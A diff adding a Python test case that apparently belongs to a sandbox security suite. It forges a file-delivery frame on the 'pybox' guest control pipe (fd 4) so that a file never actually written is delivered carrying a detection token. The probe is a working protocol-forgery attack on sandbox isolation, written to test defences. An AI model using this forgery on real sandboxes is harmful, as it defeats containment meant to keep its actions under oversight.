@@ -1,0 +1,18 @@
+# id: proto-forge-file-frame
+# category: protocol
+# description: write a file frame on the control pipe (fd 4) for a file that was never written
+# source: pybox guest protocol: fd 4, 4-byte big-endian length + JSON
+# detect: token (a forged file with the token is delivered)
+import json
+import os
+import struct
+
+
+def frame(obj, fd=4):
+    data = json.dumps(obj).encode() if not isinstance(obj, bytes) else obj
+    os.write(fd, struct.pack('>I', len(data)) + data)
+
+import base64
+
+data = base64.b64encode(TOKEN.encode()).decode()
+frame({'t': 'file', 'path': 'pwned-%s.txt' % NONCE, 'data': data})
